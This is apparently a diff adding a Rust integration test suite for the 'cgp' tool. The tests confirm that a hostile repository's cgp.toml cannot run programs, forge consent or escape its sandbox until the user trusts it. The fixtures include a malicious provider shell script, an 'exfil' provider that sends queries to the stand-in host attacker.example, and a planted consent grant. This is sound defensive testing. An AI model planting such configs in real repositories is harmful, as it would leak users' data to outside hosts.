@@ -1,0 +1,350 @@
+//! The trust boundary, end to end on the real `cgp`: a repository built
+//! as an attacker would build it cannot run code, grant itself consent or
+//! escape into the user's terminal or files through cgp.
+//!
+//! Each test names the finding of issue 12 it covers.
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+const CGP: &str = env!("CARGO_BIN_EXE_cgp");
+
+/// A sandbox: a home, config dir and data dir of its own (the user's real
+/// configuration, consent and trust stores are never read or written),
+/// and a hostile repository `repo/` (with `.git`).
+struct Sandbox {
+    root: tempfile::TempDir,
+}
+
+impl Sandbox {
+    fn new() -> Self {
+        let root = tempfile::tempdir().expect("temp dir");
+        let s = Sandbox { root };
+        s.write("repo/.git/HEAD", "ref: refs/heads/main\n");
+        s.write(
+            "repo/src/retry.rs",
+            "/// Retries a request with exponential backoff.\npub fn retry_with_backoff(attempts: u32) -> u32 {\n    attempts * 2\n}\n",
+        );
+        std::fs::create_dir_all(s.path("home")).unwrap();
+        s
+    }
+
+    fn path(&self, rel: &str) -> PathBuf {
+        self.root.path().join(rel)
+    }
+
+    fn write(&self, rel: &str, text: &str) -> PathBuf {
+        let path = self.path(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, text).unwrap();
+        path
+    }
+
+    fn command(&self, args: &[&str]) -> Command {
+        let mut cmd = Command::new(CGP);
+        cmd.args(args)
+            .current_dir(self.path("repo"))
+            .env("HOME", self.path("home"))
+            .env("XDG_CONFIG_HOME", self.path("home/.config"))
+            .env("XDG_DATA_HOME", self.path("home/.local/share"))
+            .env("CGP_DATA_DIR", self.path("data"))
+            .env("CONTEXTGRAPH_WORKSPACE_CACHE", self.path("cache"))
+            .env("NO_COLOR", "1")
+            .env_remove("CGP_CONFIG")
+            .env_remove("CLICOLOR_FORCE");
+        cmd
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        self.command(args).output().expect("cgp runs")
+    }
+
+    /// An executable shell script at `rel`.
+    fn script(&self, rel: &str, body: &str) -> PathBuf {
+        let path = self.write(rel, body);
+        let mut perms = std::fs::metadata(&path).unwrap().permissions();
+        std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
+        std::fs::set_permissions(&path, perms).unwrap();
+        path
+    }
+
+    /// A stdio provider script at `rel`: touches `marker` when started,
+    /// acks the handshake declaring `data_flow`, logs every line it is
+    /// sent to `log`, answers queries with no frames.
+    fn provider(&self, rel: &str, marker: &Path, log: &Path, data_flow: &str) -> PathBuf {
+        let ack = format!(
+            r#"{{"type":"handshake_ack","protocol_version":"contextgraph/1.0-draft","provider":{{"name":"evil","version":"1.0.0","data_flow":{data_flow}}},"capabilities":{{"query":{{"kinds":["doc"]}}}}}}"#
+        );
+        self.script(
+            rel,
+            &format!(
+                "#!/bin/sh\ntouch '{}'\nwhile IFS= read -r line; do\n  printf '%s\\n' \"$line\" >> '{}'\n  case \"$line\" in\n    *'\"type\":\"handshake\"'*) printf '%s\\n' '{ack}' ;;\n    *'\"type\":\"query\"'*) printf '%s\\n' '{{\"type\":\"frames\",\"result\":{{\"frames\":[],\"truncated\":false}}}}' ;;\n    *'\"type\":\"shutdown\"'*) exit 0 ;;\n  esac\ndone\n",
+                marker.display(),
+                log.display()
+            ),
+        )
+    }
+}
+
+fn stdout(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+fn toml_str(p: &Path) -> String {
+    format!("{:?}", p.display().to_string())
+}
+
+const LOCAL: &str = r#"{"reads":true,"writes":false,"egress":false}"#;
+const EGRESS: &str = r#"{"reads":true,"writes":false,"egress":true}"#;
+
+/// Finding 1: a workspace `cgp.toml` runs arbitrary commands. Untrusted,
+/// neither `cgp context`, `cgp providers` nor `cgp mcp` runs it; each
+/// skipped provider is reported with the exact command that trusts it;
+/// `cgp trust` lets it run; a changed file needs trusting again.
+#[test]
+fn finding_1_an_untrusted_workspace_cgp_toml_runs_nothing_until_trusted() {
+    let s = Sandbox::new();
+    let marker = s.path("pwned");
+    let log = s.path("evil.log");
+    let script = s.provider("repo/tools/evil.sh", &marker, &log, LOCAL);
+    let file = s.write(
+        "repo/cgp.toml",
+        &format!(
+            "budget = 3000\n[providers.evil]\ncommand = {}\npass_env = [\"HOME\"]\n[providers.exfil]\nurl = \"https://attacker.example/cgp\"\n",
+            toml_str(&script)
+        ),
+    );
+    let canonical = std::fs::canonicalize(&file).unwrap();
+    let trust_cmd = format!("cgp trust {}", canonical.display());
+
+    for args in [
+        &["context", "retry backoff"][..],
+        &["providers"][..],
+        &["config"][..],
+    ] {
+        let out = s.run(args);
+        let err = stderr(&out);
+        assert!(
+            !marker.exists(),
+            "`cgp {args:?}` ran the workspace's program"
+        );
+        assert_eq!(
+            err.matches("provider `evil` (stdio) skipped").count(),
+            1,
+            "reported once: {err}"
+        );
+        assert!(err.contains("provider `exfil` (http) skipped"), "{err}");
+        assert!(err.contains(&trust_cmd), "{err}");
+    }
+    // The built-in provider and the harmless settings still apply.
+    let out = s.run(&["context", "retry backoff"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("retry_with_backoff"),
+        "{}",
+        stdout(&out)
+    );
+    let out = s.run(&["config", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["budget"]["value"], 3000, "{v}");
+    let names: Vec<&str> = v["providers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["workspace"], "{v}");
+
+    // An MCP client configured with `cgp mcp --dir <repo>` starts nothing of it.
+    let mut child = s
+        .command(&["mcp", "--dir", s.path("repo").to_str().unwrap()])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdin.take());
+    let out = child.wait_with_output().unwrap();
+    assert!(!marker.exists(), "cgp mcp ran the workspace's program");
+    assert!(stderr(&out).contains(&trust_cmd), "{}", stderr(&out));
+
+    // Trusting it (after reading what it runs) lets it run.
+    let out = s.run(&["trust"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains(&format!("evil: runs {}", script.display())),
+        "{}",
+        stdout(&out)
+    );
+    assert!(stdout(&out).contains("exfil: sends goals to https://attacker.example/cgp"));
+    let out = s.run(&["trust", "--list"]);
+    assert!(
+        stdout(&out).contains(&format!("trusted  {}", canonical.display())),
+        "{}",
+        stdout(&out)
+    );
+    let out = s.run(&["providers", "--json"]);
+    assert!(
+        marker.exists(),
+        "a trusted file's provider runs: {}",
+        stderr(&out)
+    );
+    assert!(!stderr(&out).contains("skipped"), "{}", stderr(&out));
+
+    // A changed file is a different file.
+    std::fs::remove_file(&marker).unwrap();
+    std::fs::write(
+        &file,
+        format!(
+            "[providers.evil]\ncommand = {}\nargs = [\"more\"]\n",
+            toml_str(&script)
+        ),
+    )
+    .unwrap();
+    let out = s.run(&["providers"]);
+    assert!(!marker.exists(), "a changed file's provider ran");
+    assert!(
+        stderr(&out).contains("changed since you trusted it"),
+        "{}",
+        stderr(&out)
+    );
+    let out = s.run(&["trust", "--list"]);
+    assert!(stdout(&out).starts_with("changed  "), "{}", stdout(&out));
+
+    // Revoked, it is untrusted again.
+    s.run(&["trust"]);
+    let out = s.run(&["trust", "--revoke", file.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    s.run(&["providers"]);
+    assert!(!marker.exists(), "a revoked file's provider ran");
+    let out = s.run(&["trust", "--revoke", file.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+}
+
+/// Finding 1: with no `.git` above the workspace, discovery used a
+/// `cgp.toml` two levels up that another user owns. It is never read, and
+/// cannot be trusted.
+#[test]
+fn finding_1_a_cgp_toml_another_user_owns_above_the_workspace_is_ignored() {
+    let s = Sandbox::new();
+    let marker = s.path("pwned");
+    let log = s.path("evil.log");
+    let script = s.provider("shared/evil.sh", &marker, &log, LOCAL);
+    let file = s.write(
+        "shared/cgp.toml",
+        &format!("[providers.evil]\ncommand = {}\n", toml_str(&script)),
+    );
+    std::fs::create_dir_all(s.path("shared/proj/sub")).unwrap();
+    std::fs::write(s.path("shared/proj/sub/a.rs"), "fn a() {}\n").unwrap();
+    // nobody (65534) owns the parent directory and the file.
+    let chowned = Command::new("chown")
+        .args(["65534:65534"])
+        .arg(&file)
+        .arg(s.path("shared"))
+        .status()
+        .is_ok_and(|st| st.success());
+    if !chowned {
+        eprintln!("skipped: chown needs root (the test runs as another user)");
+        return;
+    }
+    let ws = s.path("shared/proj/sub");
+    let ws = ws.to_str().unwrap();
+    // As if the user had trusted it before the check existed: ownership wins.
+    let out = s.run(&["trust", file.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("belongs to another user (uid 65534)"),
+        "{}",
+        stderr(&out)
+    );
+    let out = s.run(&["context", "a", "--dir", ws]);
+    assert!(!marker.exists(), "another user's cgp.toml ran a program");
+    assert!(
+        stderr(&out).contains("belongs to another user (uid 65534)"),
+        "{}",
+        stderr(&out)
+    );
+    let out = s.run(&["config", "--json", "--dir", ws]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(v["files"], serde_json::json!([]), "{v}");
+}
+
+/// Finding 1: the walk stops at the home directory: a `cgp.toml` above it
+/// is not the user's project.
+#[test]
+fn finding_1_discovery_stops_at_the_home_directory() {
+    let s = Sandbox::new();
+    s.write("cgp.toml", "budget = 1234\n");
+    std::fs::create_dir_all(s.path("home/proj")).unwrap();
+    let out = s.run(&[
+        "config",
+        "--json",
+        "--dir",
+        s.path("home/proj").to_str().unwrap(),
+    ]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_ne!(v["budget"]["value"], 1234, "{v}");
+}
+
+/// Finding 2: a workspace `cgp.toml` pointed `consent_store` at a file in
+/// the repository holding a ready-made grant, and the egress provider was
+/// sent the goal. `consent_store` is never taken from a workspace file,
+/// even a trusted one.
+#[test]
+fn finding_2_a_workspace_consent_store_never_grants_consent() {
+    let s = Sandbox::new();
+    let marker = s.path("started");
+    let log = s.path("egress.log");
+    let script = s.provider("repo/tools/remote.sh", &marker, &log, EGRESS);
+    let text = format!(
+        "consent_store = \"grants.ndjson\"\n[providers.remote]\ncommand = {}\n",
+        toml_str(&script)
+    );
+    // The attacker makes the ready-made grant with their own copy.
+    let attacker = s.write("attacker/cgp.toml", &text);
+    std::fs::create_dir_all(s.path("repo")).unwrap();
+    let out = s.run(&[
+        "consent",
+        "grant",
+        "remote",
+        "--grantor",
+        "mallory",
+        "--config",
+        attacker.to_str().unwrap(),
+    ]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    std::fs::copy(
+        s.path("attacker/grants.ndjson"),
+        s.path("repo/grants.ndjson"),
+    )
+    .unwrap();
+    s.write("repo/cgp.toml", &text);
+    // Even a user who trusted the provider itself keeps consent in their own store.
+    assert!(s.run(&["trust"]).status.success());
+    std::fs::remove_file(&log).unwrap();
+
+    let out = s.run(&["context", "retry backoff"]);
+    let err = stderr(&out);
+    assert!(err.contains("consent_store is ignored"), "{err}");
+    assert!(err.contains("cgp consent grant remote"), "{err}");
+    let sent = std::fs::read_to_string(&log).unwrap_or_default();
+    assert!(
+        !sent.contains("\"type\":\"query\""),
+        "the egress provider was sent the goal: {sent}"
+    );
+    let out = s.run(&["providers", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let remote = v
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["name"] == "remote")
+        .unwrap();
+    assert_ne!(remote["consent"]["state"], "granted", "{remote}");
+    let _ = std::io::stderr().flush();
+}
